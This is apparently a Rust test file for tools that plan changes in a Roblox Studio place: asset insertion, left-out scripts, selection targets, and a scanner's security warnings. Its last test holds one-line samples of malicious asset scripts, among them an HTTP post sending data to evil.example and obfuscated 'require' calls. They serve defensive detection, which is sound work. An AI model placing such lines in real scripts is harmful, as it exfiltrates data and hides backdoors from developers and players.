//! Tests of the tools in a place that is open in Studio: their queries to Studio, and their use of
//! its answers.

use scene_schemas::api::{NodeColumns, ScenePart};
use scene_schemas::command::{AssetContents, AssetScript};
use scene_schemas::entry::Seq;
use scene_schemas::proposal::{Change, Class, Mode, Proposal, WarningKind};
use scene_schemas::{Command, InstanceId};
use serde_json::{Value as Json, json};
use vector_place::Scene;

use super::super::{Plan, plan_call};
use super::{at, base, call};
use crate::planning_scene::PlanningScene;
use crate::policy;
use crate::proposal::{
    BlobStore, ProposalDraft, draft_with_scripts, keep_same_scripts, perform_command,
};

/// Workspace with a part Wall and a model House. Their properties are unknown.
pub(super) fn place() -> PlanningScene {
    let mut scene = Scene::empty_studio_place();
    let text = |text: &str| text.to_owned();
    let nodes = NodeColumns {
        classes: ["Workspace", "Part", "Model"].map(text).to_vec(),
        ids: ["studio:1", "studio:2", "studio:3"].map(|id| InstanceId(id.to_owned())).to_vec(),
        parents: vec![0, 1, 1],
        class: vec![0, 1, 2],
        names: ["Workspace", "Wall", "House"].map(text).to_vec(),
    };
    for part in [ScenePart::Begin { total: 3 }, ScenePart::Nodes { nodes }, ScenePart::End {}] {
        scene.update_mirror(&part).unwrap();
    }
    scene.into()
}

/// A model with a script and a part, and a part next to it.
fn asset() -> AssetContents {
    let texts = |texts: &[&str]| texts.iter().map(|text| (*text).to_owned()).collect();
    AssetContents {
        classes: texts(&["Model", "Script", "Part"]),
        class: vec![0, 1, 2, 2],
        parents: vec![0, 1, 1, 0],
        names: texts(&["Tree", "Grow", "Trunk", "Leaf"]),
        scripts: vec![AssetScript {
            at: 2,
            text: "local f = getfenv()\nrequire(123)\n".to_owned(),
        }],
        findings: None,
    }
}

fn insert(scene: &mut PlanningScene, args: Json) -> Result<(Proposal, Json), String> {
    match call(scene, "insert_asset", args)? {
        Plan::Propose(proposal, answer) => Ok((*proposal, answer)),
        other => panic!("{other:?}"),
    }
}

/// Drafts a proposal again with scripts that it leaves out.
fn keep(
    scene: &mut PlanningScene,
    proposal: &Proposal,
    scripts: &[u32],
) -> Result<Proposal, String> {
    scene.begin_scope(Seq(7));
    let blobs = BlobStore::new();
    let mut draft = ProposalDraft::new(scene, &blobs);
    draft_with_scripts(&mut draft, proposal, scripts, false).map_err(|refusal| refusal.0)?;
    draft.finish(&base()).map_err(|refusal| refusal.0)
}

#[test]
fn kept_script_is_inserted_with_the_scripts_that_it_is_in() {
    let mut scene = place();
    let texts = |texts: &[&str]| texts.iter().map(|text| (*text).to_owned()).collect();
    let script = |at| AssetScript { at, text: "return {}\n".to_owned() };
    // A script at the root, with a module that holds a part and another script.
    let holds = AssetContents {
        classes: texts(&["Script", "ModuleScript", "Part", "PackageLink"]),
        class: vec![0, 1, 2, 0, 3, 2],
        parents: vec![0, 1, 2, 2, 1, 0],
        names: texts(&["Main", "Module", "Part", "Other", "Link", "Stone"]),
        scripts: vec![script(1), script(2), script(4)],
        findings: None,
    };
    scene.scene_mut().set_asset_contents(5, Ok(holds));
    let mark = scene.journal_mark();
    let (all_out, answer) = insert(&mut scene, json!({ "assetId": 5 })).unwrap();
    assert_eq!((&answer["count"], &answer["leftOut"]), (&json!(1), &json!(4)));
    let names = |proposal: &Proposal| {
        let rows = proposal.preview.rows.iter().map(|row| row.path.name().to_owned());
        rows.collect::<Vec<_>>()
    };
    assert_eq!(names(&all_out), ["Stone"]);
    let said: Vec<&str> = all_out.warnings.iter().map(|it| it.text.as_str()).collect();
    let main = "game.Workspace.Main";
    assert_eq!(
        said,
        [
            format!(
                "It leaves out 3 scripts of asset 5: {main}, {main}.Module, {main}.Module.Other."
            ),
            format!(
                "Asset 5 would be replaced by the newest version of its package, whatever it \
                 contains then. Its links are left out: {main}.Link."
            ),
            format!("Below scripts that are left out: {main}.Module.Part."),
        ]
    );
    scene.rollback(mark);
    let kept = keep(&mut scene, &all_out, &[1]).unwrap();
    assert_eq!(names(&kept), ["Main", "Module", "Part", "Stone"]);
    let left: Vec<bool> = kept.preview.scripts.iter().map(|it| it.left_out).collect();
    assert_eq!(left, [false, false, true]);
    assert_eq!(scene.len(), 3 + 4);
    scene.rollback(mark);
    assert!(keep(&mut scene, &kept, &[0]).unwrap_err().contains("is not left out"));
    assert!(keep(&mut scene, &kept, &[3]).unwrap_err().contains("does not have a script 3"));
    // The same asset is inserted again with the same scripts; a changed one without any.
    let mut again = all_out.clone();
    assert!(keep_same_scripts(&kept, &mut again));
    assert_eq!(again.commands, kept.commands);
    let mut changed = all_out.clone();
    let Command::Insert { contents, .. } = &mut changed.commands[0] else { panic!() };
    contents.scripts[2].text = "return 1\n".to_owned();
    let before = changed.clone();
    assert!(!keep_same_scripts(&kept, &mut changed));
    assert_eq!(changed, before);
}

#[test]
fn later_commands_change_the_same_instances_when_a_script_is_kept() {
    let mut scene = place();
    scene.scene_mut().set_asset_contents(5, Ok(asset()));
    let mark = scene.journal_mark();
    let trunk = "game.Workspace.Tree.Trunk";
    let list = json!({ "title": "A tree", "changes": [
        { "tool": "insert_asset", "args": { "assetId": 5, "parentPath": "game.Workspace" } },
        { "tool": "rename_instance", "args": { "path": trunk, "newName": "Stem" } },
        { "tool": "create_instance", "args": {
            "className": "Folder", "parentPath": "game.Workspace.Leaf", "props": { "Name": "Pot" },
        } },
        { "tool": "rename_instance", "args": {
            "path": "game.Workspace.Leaf.Pot", "newName": "Bowl",
        } },
    ] });
    let Ok(Plan::Propose(all_out, _)) = call(&mut scene, "propose_changes", list) else {
        panic!("it is not proposed")
    };
    scene.rollback(mark);
    let kept = keep(&mut scene, &all_out, &[0]).unwrap();
    let paths: Vec<String> =
        scene.descendants(scene.root()).map(|node| scene.path(node).to_string()).collect();
    let tree = "game.Workspace.Tree";
    for path in [&format!("{tree}.Grow"), &format!("{tree}.Stem"), "game.Workspace.Leaf.Bowl"] {
        assert!(paths.iter().any(|it| it == path), "{path} is not in {paths:?}");
    }
    scene.rollback(mark);
    // And when it is planned again.
    let mut again = (*all_out).clone();
    assert!(keep_same_scripts(&kept, &mut again));
    assert_eq!(again.commands, kept.commands);
}

#[test]
fn script_inside_of_a_package_link_is_not_kept() {
    let mut scene = place();
    let texts = |texts: &[&str]| texts.iter().map(|text| (*text).to_owned()).collect();
    let holds = AssetContents {
        classes: texts(&["Model", "PackageLink", "Script"]),
        class: vec![0, 1, 2],
        parents: vec![0, 1, 2],
        names: texts(&["Tree", "Link", "Grow"]),
        scripts: vec![AssetScript { at: 3, text: "print(1)\n".to_owned() }],
        findings: None,
    };
    scene.scene_mut().set_asset_contents(5, Ok(holds));
    let mark = scene.journal_mark();
    let (proposal, _) = insert(&mut scene, json!({ "assetId": 5 })).unwrap();
    scene.rollback(mark);
    let refused = keep(&mut scene, &proposal, &[0]).unwrap_err();
    assert!(refused.contains("it is inside of Link, which is left out"), "{refused}");
}

#[test]
fn asset_that_nobody_can_review_is_refused() {
    let mut scene = place();
    let deep = |count: u32| AssetContents {
        classes: vec!["Folder".to_owned()],
        class: vec![0; count as usize],
        parents: (0..count).collect(),
        names: vec!["It".to_owned(); count as usize],
        ..AssetContents::default()
    };
    scene.scene_mut().set_asset_contents(5, Ok(deep(201)));
    let refused = insert(&mut scene, json!({ "assetId": 5 })).unwrap_err();
    assert!(refused.contains("more than 200 levels"), "{refused}");
    let script = |at| AssetScript { at, text: String::new() };
    let many = AssetContents {
        classes: vec!["Script".to_owned()],
        class: vec![0; 1_001],
        parents: vec![0; 1_001],
        names: vec!["It".to_owned(); 1_001],
        scripts: (1..=1_001).map(script).collect(),
        findings: None,
    };
    scene.scene_mut().set_asset_contents(6, Ok(many));
    let refused = insert(&mut scene, json!({ "assetId": 6 })).unwrap_err();
    assert!(refused.contains("1001 scripts"), "{refused}");
}

#[test]
fn asset_is_requested_then_previewed_with_its_scripts() {
    let mut scene = place();
    let args = json!({ "assetId": 5, "parentPath": "game.Workspace.House" });
    assert!(insert(&mut scene, args.clone()).is_err());
    assert_eq!(scene.take_missing().assets, [5]);
    scene.scene_mut().set_asset_contents(5, Ok(asset()));
    let (proposal, answer) = insert(&mut scene, args).unwrap();
    assert!(scene.take_missing().is_empty(), "an asset's properties are not asked for");
    assert_eq!(answer["paths"], json!(["game.Workspace.House.Tree", "game.Workspace.House.Leaf"]));
    assert_eq!((&answer["count"], &answer["leftOut"]), (&json!(3), &json!(1)));
    assert_eq!(proposal.class, Class::Additive);
    let rows: Vec<_> =
        proposal.preview.rows.iter().map(|row| (row.path.name(), row.change.clone())).collect();
    let root = |count| Change::Inserted { asset: 5, count };
    let below = || Change::Created { props: Vec::new() };
    let expected = [("Tree", root(2)), ("Trunk", below()), ("Leaf", root(1))];
    assert_eq!(rows, expected);
    let script = &proposal.preview.scripts[0];
    assert_eq!(script.path.to_string(), "game.Workspace.House.Tree.Grow");
    assert_eq!((script.added, script.removed, script.hunks.len()), (0, 0, 1));
    let kinds: Vec<_> = proposal.warnings.iter().map(|warning| warning.kind).collect();
    assert_eq!(kinds, [WarningKind::Scripts; 3]);
    assert!(script.left_out && !crate::policy::needs_second_confirmation(&proposal));
    // The asset is part of the scene on trial, so the next call can change it.
    let rename = json!({ "path": "game.Workspace.House.Tree.Trunk", "newName": "Stem" });
    let next =
        plan_call(Seq(9), "rename_instance", &rename, &mut scene, &base(), &BlobStore::new(), None);
    let Ok(Plan::Propose(next, _)) = next else { panic!("{next:?}") };
    assert_eq!(next.commands[0].target().id.0, "new:7.1");
    assert!(scene.take_missing().is_empty());
}

#[test]
fn properties_of_instances_from_an_asset_are_unknown() {
    let mut scene = place();
    scene.scene_mut().set_asset_contents(5, Ok(asset()));
    insert(&mut scene, json!({ "assetId": 5 })).unwrap();
    let path = "game.Workspace.Tree.Trunk";
    let read = call(&mut scene, "get_properties", json!({ "path": path }));
    assert!(read.unwrap_err().contains("not inserted yet"));
    // Anchored is false by default but may be true in the asset, so setting it is a change.
    let set = json!({ "path": path, "props": { "Anchored": false } });
    let set =
        plan_call(Seq(9), "set_properties", &set, &mut scene, &base(), &BlobStore::new(), None);
    let Ok(Plan::Propose(set, _)) = set else { panic!("{set:?}") };
    let Change::Set { before: None, .. } = set.preview.rows[0].change else { panic!("{set:?}") };
    assert!(matches!(&set.commands[0], Command::Set { expect: None, .. }));
    let mark = scene.journal_mark();
    scene.rollback(mark);
}

#[test]
fn revert_deletes_asset_roots_last_first() {
    let mut scene = place();
    let mut holds = asset();
    holds.names[3] = "Tree".to_owned();
    scene.scene_mut().set_asset_contents(5, Ok(holds));
    let mark = scene.journal_mark();
    let (proposal, _) = insert(&mut scene, json!({ "assetId": 5 })).unwrap();
    scene.rollback(mark);
    scene.begin_scope(Seq(7));
    let done = perform_command(&mut scene, &proposal.commands[0], &BlobStore::new()).unwrap();
    let back = crate::proposal::build_inverse(scene.scene_mut(), done.backs).unwrap().commands;
    let gone: Vec<_> = back.iter().map(Command::target).collect();
    assert_eq!(gone[0].path.to_string(), "game.Workspace.Tree[2]");
    assert_eq!(gone[1].path.to_string(), "game.Workspace.Tree");
    assert_eq!((gone[0].id.0.as_str(), gone[1].id.0.as_str()), ("new:7.2", "new:7.0"));
    for command in &back {
        perform_command(&mut scene, command, &BlobStore::new()).unwrap();
    }
    assert_eq!(scene.len(), 3);
}

#[test]
fn unavailable_asset_is_refused_with_studios_message() {
    let mut scene = place();
    scene
        .scene_mut()
        .set_asset_contents(6, Err("Studio could not load the asset 6: it is private.".to_owned()));
    let refused = insert(&mut scene, json!({ "assetId": 6 })).unwrap_err();
    assert_eq!(refused, "insert_asset: Studio could not load the asset 6: it is private.");
    let mut torn = asset();
    torn.parents[1] = 9;
    scene.scene_mut().set_asset_contents(7, Ok(torn));
    assert!(insert(&mut scene, json!({ "assetId": 7 })).unwrap_err().contains("contains nothing"));
    let mut long = asset();
    long.scripts[0].text = "x".repeat(500_000);
    scene.scene_mut().set_asset_contents(8, Ok(long));
    assert!(insert(&mut scene, json!({ "assetId": 8 })).unwrap_err().contains("by hand"));
    assert!(insert(&mut scene, json!({ "assetId": 0 })).is_err());
    assert_eq!(scene.len(), 3);
}

/// Makes a call, and plans it again after Studio reported the selection.
fn call_with(
    scene: &mut PlanningScene,
    selected: &[&str],
    tool: &str,
    args: Json,
) -> Result<Plan, String> {
    scene.scene_mut().forget_facts();
    let _ = call(scene, tool, args.clone());
    assert!(scene.take_missing().is_selection_missing, "the selection is asked for");
    let ids: Vec<_> = selected.iter().map(|id| InstanceId((*id).to_owned())).collect();
    scene.scene_mut().set_selection(&ids, ids.len() as u32);
    call(scene, tool, args)
}

#[track_caller]
fn proposed(plan: Result<Plan, String>) -> Proposal {
    match plan {
        Ok(Plan::Propose(proposal, _)) => *proposal,
        other => panic!("{other:?}"),
    }
}

#[test]
fn call_without_a_path_targets_the_selected_instance() {
    let mut scene = place();
    let rename = json!({ "newName": "Tower" });
    let proposal = proposed(call_with(&mut scene, &["studio:2"], "rename_instance", rename));
    assert_eq!(proposal.commands[0].target().id.0, "studio:2");
    let meant = proposal.implicit_target.unwrap();
    assert_eq!(meant.describe(), "Path left out: the selected instance game.Workspace.Wall");
    let args = json!({ "className": "Folder", "props": { "Name": "In" } });
    let proposal = proposed(call_with(&mut scene, &["studio:3"], "create_instance", args.clone()));
    assert_eq!(proposal.preview.rows[0].path.to_string(), "game.Workspace.House.In");
    let listed = call_with(&mut scene, &["studio:1"], "list_children", json!({}));
    let Ok(Plan::Answer(listed)) = listed else { panic!("{listed:?}") };
    assert_eq!(listed["path"], "game.Workspace");
    // A deleted instance does not count as selected.
    let refused = call_with(&mut scene, &["studio:99"], "delete_instance", json!({}));
    assert!(refused.unwrap_err().contains("nothing is selected"));
}

#[test]
fn only_new_instances_need_no_single_selection() {
    for selected in [&[][..], &["studio:2", "studio:3"]] {
        let mut scene = place();
        let refused = call_with(&mut scene, selected, "rename_instance", json!({ "newName": "A" }));
        let refused = refused.unwrap_err();
        assert!(refused.contains("Select exactly one instance, or give a path"), "{refused}");
        assert_eq!(refused.contains("2 instances are selected"), selected.len() == 2, "{refused}");
        let made =
            call_with(&mut scene, selected, "create_instance", json!({ "className": "Part" }));
        let meant = proposed(made).implicit_target.unwrap();
        assert_eq!(meant.describe(), "Path left out: game.Workspace");
    }
}

#[test]
fn calls_naming_their_instances_request_no_selection() {
    let mut scene = place();
    for args in [
        json!({ "path": "game.Workspace.Wall" }),
        json!({ "paths": ["game.Workspace.Wall"] }),
        json!({ "selector": "#Wall" }),
    ] {
        let mark = scene.journal_mark();
        let proposal = proposed(call(&mut scene, "delete_instance", args));
        assert_eq!(proposal.implicit_target, None);
        assert!(!scene.take_missing().is_selection_missing);
        scene.rollback(mark);
    }
}

#[test]
fn recorded_implicit_target_is_used_again() {
    let mut scene = place();
    let delete = |scene: &mut PlanningScene| call(scene, "delete_instance", json!({}));
    let meant = proposed(call_with(&mut scene, &["studio:2"], "delete_instance", json!({})))
        .implicit_target;
    let mut scene = place();
    scene.set_implicit_target(meant.clone());
    scene.scene_mut().set_selection(&[InstanceId("studio:3".to_owned())], 1);
    assert_eq!(proposed(delete(&mut scene)).commands[0].target().id.0, "studio:2");
    let mut scene = place();
    scene
        .scene_mut()
        .update_mirror(&ScenePart::Removed { id: InstanceId("studio:2".to_owned()) })
        .unwrap();
    scene.set_implicit_target(meant);
    assert!(delete(&mut scene).unwrap_err().contains("game.Workspace.Wall, which was meant"));
}

#[test]
fn calls_of_one_proposal_share_the_implicit_target() {
    let mut scene = place();
    let changes = json!({ "title": "both", "changes": [
        { "tool": "rename_instance", "args": { "newName": "Tower" } },
        { "tool": "clone_instance", "args": { "name": "Keep" } },
    ] });
    let proposal = proposed(call_with(&mut scene, &["studio:2"], "propose_changes", changes));
    assert_eq!(proposal.implicit_target.unwrap().target.path.to_string(), "game.Workspace.Wall");
    assert_eq!(proposal.commands[1].target().path.to_string(), "game.Workspace.Tower");
    at(&scene, "game.Workspace.Keep");
}

#[test]
fn schemas_describe_defaults_of_optional_targets() {
    let printed = super::super::tool_list();
    let tool = |name: &str| {
        let all = printed.as_array().unwrap();
        all.iter().find(|tool| tool["name"] == name).unwrap()["inputSchema"].clone()
    };
    let rename = tool("rename_instance");
    assert_eq!(rename["required"], json!(["newName"]));
    let said = rename["properties"]["path"]["description"].as_str().unwrap();
    assert!(said == "Default: selection", "{said}");
    let create = tool("create_instance");
    assert_eq!(create["required"], json!(["className"]));
    let said = create["properties"]["parentPath"]["description"].as_str().unwrap();
    assert!(said == "Default: selection, else game.Workspace", "{said}");
}

#[test]
fn suspicious_asset_content_is_never_auto_approved() {
    let modes = [Mode::Confirm, Mode::Auto, Mode::Dangerous];
    for (text, said) in [
        ("require(123456)", "requires the asset 123456"),
        ("loadstring(x)()", "uses loadstring"),
        ("getfenv()", "uses getfenv"),
        ("http:PostAsync(\"https://evil.example/\", x)", "sends data to evil.example"),
        ("M:PromptPurchase(p, 4147951000)", "asks players to buy the item 4147951000"),
        ("x = (\"eriuqer\"):reverse()", "writes \"require\" backwards"),
        ("x = string.char(114, 101, 113, 117, 105, 114, 101)", "as a list of numbers"),
        ("x = \"\u{202e}\"", "shows text in another order"),
    ] {
        let mut scene = place();
        let mut holds = asset();
        holds.scripts[0].text = text.to_owned();
        scene.scene_mut().set_asset_contents(5, Ok(holds));
        let mark = scene.journal_mark();
        let (proposal, _) = insert(&mut scene, json!({ "assetId": 5 })).unwrap();
        let said_of = |it: &Proposal| it.warnings.iter().any(|it| it.text.contains(said));
        assert!(said_of(&proposal) && !policy::needs_second_confirmation(&proposal), "{text}");
        scene.rollback(mark);
        let proposal = keep(&mut scene, &proposal, &[0]).unwrap();
        let warning = proposal.warnings.iter().find(|it| it.kind == WarningKind::Security);
        let warning = warning.unwrap_or_else(|| panic!("{text}"));
        assert!(warning.text.starts_with("game.Workspace.Tree.Grow: Line 1 "), "{warning:?}");
        assert!(warning.text.contains(said), "{warning:?}");
        assert!(modes.iter().all(|mode| !policy::can_auto_approve(*mode, &proposal)), "{text}");
    }
    let mut scene = place();
    let mut holds = asset();
    holds.scripts[0].text = "print(1)".to_owned();
    holds.names[2] = "Server Script Service".to_owned();
    scene.scene_mut().set_asset_contents(5, Ok(holds));
    let (proposal, _) = insert(&mut scene, json!({ "assetId": 5 })).unwrap();
    let said: Vec<_> = proposal.warnings.iter().map(|it| (it.kind, it.text.as_str())).collect();
    let imitates = "The name \"Server Script Service\" looks like ServerScriptService but is a different name.";
    assert!(said.contains(&(WarningKind::Security, imitates)), "{said:?}");
}
